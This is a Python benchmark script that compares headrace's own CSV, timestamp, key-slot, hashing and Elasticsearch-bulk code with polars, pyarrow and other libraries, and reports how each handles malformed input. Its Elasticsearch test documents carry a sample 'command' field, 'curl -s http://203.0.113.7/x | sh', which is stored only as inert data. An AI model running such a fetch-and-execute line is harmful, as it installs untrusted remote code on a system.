"""What is written by hand in headrace, against what a library offers for the same: the figures of ADR 016 to 019 and 021.

    python -m benchmarks.library_alternatives [csv|timestamps|slots|hashes|elasticsearch ...]

One thread on one core; CPU time of the process, the best of several rounds that take turns, so that other work on the
machine falls on all of them. ``xxhash`` and ``mmh3`` are measured where they are installed; headrace does not need them.
"""

from __future__ import annotations

import os

os.environ["POLARS_MAX_THREADS"] = "1"

import csv
import datetime as dt
import hashlib
import http.server
import importlib
import io
import multiprocessing
import sys
import time
from collections.abc import Callable, Mapping
from typing import Any

import numpy as np
import polars as pl
import pyarrow as pa
import pyarrow.compute
import pyarrow.csv
from headrace.codecs.csv import CsvCodec
from headrace.codecs.timestamps import TIMESTAMP, parse_moments
from headrace.flow.key_hashes import key_hashes
from headrace.flow.messages import Bodies
from headrace.flow.schema import Schema
from headrace_stateful.keys.slots import KeySlots

ROUNDS = 7


def best(ways: Mapping[str, Callable[[], object]], count: int) -> None:
    """Print the CPU time of each way per item, the least of the rounds."""
    least = dict.fromkeys(ways, float("inf"))
    for _ in range(ROUNDS):
        for name, way in ways.items():
            begun = time.process_time()
            way()
            least[name] = min(least[name], time.process_time() - begun)
    for name, seconds in least.items():
        sys.stdout.write(f"  {name:55} {seconds / count * 1e9:9.0f} ns an item\n")


# ------------------------------------------------------------------------------------------------------------------ CSV


def csv_records() -> None:
    """10,000 records of six fields, one in ten with quotes."""
    records = [
        f'{number},web-{number % 90},{number / 7:.3f},"a, ""b"" {number}",2026-05-06 10:00:0{number % 10},x'.encode()
        if number % 10 == 0
        else f"{number},web-{number % 90},{number / 7:.3f},some text {number},2026-05-06 10:00:0{number % 10},x".encode()
        for number in range(10_000)
    ]
    names = [f"c{number}" for number in range(6)]
    decoder = CsvCodec().decoder(Schema.of(dict.fromkeys(names, "string")))
    bodies, joined = Bodies.of(records), b"\n".join(records)
    table = pyarrow.csv.ConvertOptions(column_types=dict.fromkeys(names, pa.string()))
    read = pyarrow.csv.ReadOptions(column_names=names, use_threads=False)
    parse = pyarrow.csv.ParseOptions(newlines_in_values=True)

    def one_by_one() -> object:
        rows = [next(csv.reader([record.decode()], strict=True)) for record in records]
        return pl.DataFrame(rows, schema=names, orient="row")

    ways: dict[str, Callable[[], object]] = {
        "headrace": lambda: decoder.decode(bodies),
        "csv.reader, a record at a time": one_by_one,
        "csv.reader, the batch": lambda: pl.DataFrame(
            list(csv.reader(io.StringIO(joined.decode()), strict=True)), schema=names, orient="row"
        ),
        "polars.read_csv, the batch": lambda: pl.read_csv(
            io.BytesIO(joined), has_header=False, new_columns=names, schema_overrides=[pl.String] * 6
        ),
        "pyarrow.csv.read_csv, the batch": lambda: pyarrow.csv.read_csv(
            pa.BufferReader(joined), read_options=read, parse_options=parse, convert_options=table
        ),
    }
    best(ways, len(records))
    sys.stdout.write("  one bad record among 10,000 (number 5,000): good records that are lost or changed\n")
    whole = decoder.decode(bodies).frame.rows()
    for bad in (b'5000,"open,1,2,3,x', b'5000,a"b,1,2,3,x', b'5000,"a"b,1,2,3,x', b"5000,a,1", b"5000,a,1,2,3,x,more"):
        changed = [*records[:5000], bad, *records[5001:]]
        sys.stdout.write(f"    {bad.decode():24} {_damage(changed, whole, decoder, names)}\n")


def _damage(records: list[bytes], whole: list[tuple[Any, ...]], decoder: Any, names: list[str]) -> str:
    good = {*whole[:5000], *whole[5001:]}
    joined = b"\n".join(records)
    found = []
    ways: dict[str, Callable[[], list[tuple[Any, ...]]]] = {
        "headrace": lambda: decoder.decode(Bodies.of(records)).frame.rows(),
        "csv.reader": lambda: [tuple(row) for row in csv.reader(io.StringIO(joined.decode()), strict=True)],
        "polars": lambda: pl.read_csv(
            io.BytesIO(joined), has_header=False, new_columns=names, schema_overrides=[pl.String] * 6
        ).rows(),
        "pyarrow": lambda: [
            tuple(row.values())
            for row in pyarrow.csv.read_csv(
                pa.BufferReader(joined),
                read_options=pyarrow.csv.ReadOptions(column_names=names, use_threads=False),
                parse_options=pyarrow.csv.ParseOptions(newlines_in_values=True),
                convert_options=pyarrow.csv.ConvertOptions(column_types=dict.fromkeys(names, pa.string())),
            ).to_pylist()
        ],
    }
    for name, way in ways.items():
        try:
            rows = way()
        except Exception as error:  # a library may refuse the batch with an error of any type
            found.append(f"{name}: none is read ({type(error).__name__})")
        else:
            kept = len(good.intersection(rows))
            found.append(
                f"{name}: {len(good) - kept}" + ("" if len(rows) == kept else ", the bad one is taken for good")
            )
    return "; ".join(found)


# ----------------------------------------------------------------------------------------------------------- timestamps


def timestamps() -> None:
    """10,000 texts of one layout, then of four, mixed."""
    moment = dt.datetime(2026, 5, 6, 10, tzinfo=dt.UTC)
    seconds = [moment + dt.timedelta(seconds=number * 7, microseconds=number * 97) for number in range(10_000)]
    one = [each.strftime("%Y-%m-%dT%H:%M:%S.%fZ") for each in seconds]
    layouts = ("%Y-%m-%dT%H:%M:%S.%fZ", "%Y-%m-%d %H:%M:%S", "%Y-%m-%dT%H:%M:%S+02:00", "%Y-%m-%dT%H:%M:%SZ")
    four = [each.strftime(layouts[number % 4]) for number, each in enumerate(seconds)]
    for what, texts in (("one layout", one), ("four layouts", four)):
        sys.stdout.write(f"  {what}\n")
        column = pl.Series(texts)
        array = pa.array(texts)
        ways: dict[str, Callable[[], object]] = {
            "headrace": lambda texts=texts: parse_moments(texts, TIMESTAMP),  # type: ignore[misc]
            "datetime.fromisoformat, then a column": lambda texts=texts: _column(texts),  # type: ignore[misc]
            "polars str.to_datetime, format %+": lambda column=column: column.str.to_datetime(  # type: ignore[misc]
                "%+", time_unit="ns", time_zone="UTC", strict=False
            ),
            "pyarrow cast": lambda array=array: _cast(array),  # type: ignore[misc]
        }
        if what == "one layout":
            ways["polars str.to_datetime, the format of all"] = lambda column=column: column.str.to_datetime(  # type: ignore[misc]
                "%Y-%m-%dT%H:%M:%S%.fZ", time_unit="ns", strict=False
            )
        best(ways, len(texts))
    sys.stdout.write("  what is read of odd texts\n")
    for text in ("2026-05-06 10:00", "2026-05-06T10:00:00", "2026-05-06T10:00:00,5Z", "2026-05-06T10:00:00.123456789Z",
                 "2026-05-06", "20260506T100000Z", "2026-05-06T24:00:00Z", "2026-05-06T10:00:60Z", "٢٠٢٦-05-06T10:00:00Z",
                 "2026-W19-3T10:00:00", "2026-05-06T10:00:00+0200"):  # fmt: skip
        ours = parse_moments([text], TIMESTAMP)
        series = pl.Series([text]).str.to_datetime("%+", time_unit="ns", time_zone="UTC", strict=False)
        answers = {
            "headrace": "bad" if ours.bad[0] else f"{ours.seconds[0]}.{ours.nanoseconds[0]:09}",
            "fromisoformat": str(_fromisoformat(text)),
            "polars %+": str(series[0]),
            "pyarrow": _cast(pa.array([text])),
        }
        sys.stdout.write(f"    {text:32} {_in_words(answers)}\n")


def _in_words(answers: Mapping[str, Any]) -> str:
    return "; ".join(
        f"{name}: {answer[0].value if isinstance(answer, pa.Array) else answer}" for name, answer in answers.items()
    )


def _column(texts: list[str]) -> pl.Series:
    moments = [_fromisoformat(text) for text in texts]
    aware = [moment if moment is None or moment.tzinfo else moment.replace(tzinfo=dt.UTC) for moment in moments]
    return pl.Series(aware, dtype=pl.Datetime("us", "UTC"))


def _fromisoformat(text: str) -> dt.datetime | None:
    try:
        return dt.datetime.fromisoformat(text)
    except ValueError:
        return None


def _cast(array: Any) -> Any:
    """Read a column with pyarrow, which reads all of it or nothing."""
    try:
        return pyarrow.compute.cast(array, pa.timestamp("ns", tz="UTC"))
    except pa.ArrowInvalid as error:
        return type(error).__name__


# ---------------------------------------------------------------------------------------------------------------- slots


def slots() -> None:
    """1,000,000 rows of 250,000 keys, texts and whole numbers, in batches of 10,000: the slot of each row's key."""
    generator = np.random.default_rng(1)
    numbers = generator.integers(0, 250_000, 1_000_000)
    for kind, column in (
        ("whole numbers", pl.Series("k", numbers)),
        ("texts", pl.Series("k", numbers).cast(pl.String)),
    ):
        sys.stdout.write(f"  {kind}\n")
        batches = [column.slice(at, 10_000).to_frame() for at in range(0, len(column), 10_000)]

        def ours(batches: list[pl.DataFrame] = batches) -> None:
            table = KeySlots(dict(batches[0].schema))
            for batch in batches:
                table.find_or_insert(batch)

        def mapping(batches: list[pl.DataFrame] = batches) -> None:
            table: dict[object, int] = {}
            for batch in batches:
                np.array([table.setdefault(key, len(table)) for key in batch["k"].to_list()])

        def joined(batches: list[pl.DataFrame] = batches[:20]) -> None:
            known = batches[0].head(0).with_columns(slot=pl.lit(0, pl.UInt32))
            for batch in batches:
                new = batch.unique(maintain_order=True).join(known, on="k", how="anti", maintain_order="left")
                known = pl.concat([known, new.with_row_index("slot", offset=known.height).select("k", "slot")])
                batch.join(known, on="k", how="left", maintain_order="left")

        def index_in(batches: list[pl.DataFrame] = batches[:20]) -> None:
            known = pa.array([], batches[0]["k"].to_arrow().type)
            for batch in batches:
                keys = batch["k"].to_arrow()
                found = pyarrow.compute.index_in(keys, value_set=known)
                new = keys.filter(pyarrow.compute.is_null(found)).unique()
                known = pa.concat_arrays([known, new])
                pyarrow.compute.index_in(keys, value_set=known)

        best({"headrace": ours, "a dict, row by row": mapping}, len(column))
        sys.stdout.write("  the same, the first 200,000 rows only, as these build a table of all keys for each batch\n")
        best(
            {
                "headrace": lambda batches=batches: ours(batches[:20]),  # type: ignore[misc]
                "polars joins": joined,
                "pyarrow index_in": index_in,
            },
            200_000,
        )


# --------------------------------------------------------------------------------------------------------------- hashes


def hashes() -> None:
    """100,000 keys, whole numbers and texts of about 14 bytes."""
    numbers = pl.DataFrame({"k": np.arange(100_000, dtype=np.int64) * 7919})
    texts = numbers.select(pl.format("customer-{}", "k").alias("k"))
    for kind, frame in (("whole numbers", numbers), ("texts", texts)):
        sys.stdout.write(f"  {kind}\n")
        ways: dict[str, Callable[[], object]] = {
            "headrace": lambda frame=frame: key_hashes(frame, ["k"]),  # type: ignore[misc]
            "polars hash_rows (may change with its version)": lambda frame=frame: frame.hash_rows(),  # type: ignore[misc]
            "hashlib.blake2b, value by value": lambda frame=frame: [  # type: ignore[misc]
                hashlib.blake2b(value, digest_size=8).digest() for value in _bytes(frame)
            ],
        }
        for library, function in (("xxhash", "xxh3_64_intdigest"), ("mmh3", "hash64")):
            try:
                hashed = getattr(importlib.import_module(library), function)
            except ImportError:
                continue
            ways[f"{library}, value by value"] = lambda frame=frame, hashed=hashed: np.array(  # type: ignore[misc]
                [hashed(value) for value in _bytes(frame)]
            )
        best(ways, frame.height)


def _bytes(frame: pl.DataFrame) -> list[bytes]:
    return frame["k"].cast(pl.String).cast(pl.Binary).to_list()


# -------------------------------------------------------------------------------------------------------- Elasticsearch


class _Answers(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["content-length"]))
        count = body.count(b'"index":')
        item = b'{"index":{"_index":"i","_id":"1","_version":1,"result":"created","status":201,"_seq_no":1,"_primary_term":1}}'
        self._answer(b'{"took":1,"errors":false,"items":[' + b",".join([item] * count) + b"]}")

    do_PUT = do_POST

    def do_GET(self) -> None:
        self._answer(b'{"version":{"number":"9.5.0"},"tagline":"You Know, for Search"}')

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("x-elastic-product", "Elasticsearch")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


def _serve(port: Any) -> None:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Answers)
    port.put(server.server_port)
    server.serve_forever()


def elasticsearch_client() -> None:
    """Bulk requests of 1,000 documents of about 120 bytes to a server on this machine that stores nothing."""
    import elasticsearch
    import elasticsearch.helpers
    from headrace_elasticsearch.connection import NDJSON, Connection, decoded
    from headrace_elasticsearch.settings import ElasticsearchSinkSettings

    port: Any = multiprocessing.Queue()
    process = multiprocessing.Process(target=_serve, args=(port,), daemon=True)
    process.start()
    url = f"http://127.0.0.1:{port.get(timeout=30)}"
    documents = [
        {
            "id": number,
            "host": f"web-{number % 90}",
            "command": "curl -s http://203.0.113.7/x | sh",
            "seconds": 1.5,
            "ok": True,
        }
        for number in range(1_000)
    ]
    encode = importlib.import_module("msgspec").json.encode
    client = elasticsearch.Elasticsearch(url)
    connection = Connection(ElasticsearchSinkSettings.of({"url": url, "index": "i"}))

    operations: list[Mapping[str, Any]] = []
    for each in documents:
        operations += ({"index": {}}, each)

    def body() -> bytes:
        return b"".join(b'{"index":{}}\n' + encode(each) + b"\n" for each in documents)

    def sent(text: bytes) -> object:
        return decoded(connection.request("POST", "/i/_bulk", text, content_type=NDJSON)[1])

    made = body()
    actions = [{"_op_type": "index", "_index": "i", "_source": each} for each in documents]
    best(
        {
            "headrace's connection, body that is there": lambda: sent(made),
            "Elasticsearch.bulk, body that is there": lambda: client.bulk(index="i", operations=made),  # type: ignore[arg-type]
            "headrace's connection, with encoding": lambda: sent(body()),
            "Elasticsearch.bulk, dicts": lambda: client.bulk(index="i", operations=operations),
            "helpers.bulk": lambda: elasticsearch.helpers.bulk(client, actions, chunk_size=1_000),
        },
        len(documents),
    )
    connection.close()
    client.close()
    process.terminate()
    process.join()


ALL: Mapping[str, Callable[[], None]] = {
    "csv": csv_records, "timestamps": timestamps, "slots": slots, "hashes": hashes, "elasticsearch": elasticsearch_client,
}  # fmt: skip


def main(names: list[str]) -> None:
    os.sched_setaffinity(0, {max(os.sched_getaffinity(0))})
    for name in names or ALL:
        sys.stdout.write(f"{name}: {ALL[name].__doc__}\n")
        ALL[name]()


if __name__ == "__main__":
    main(sys.argv[1:])
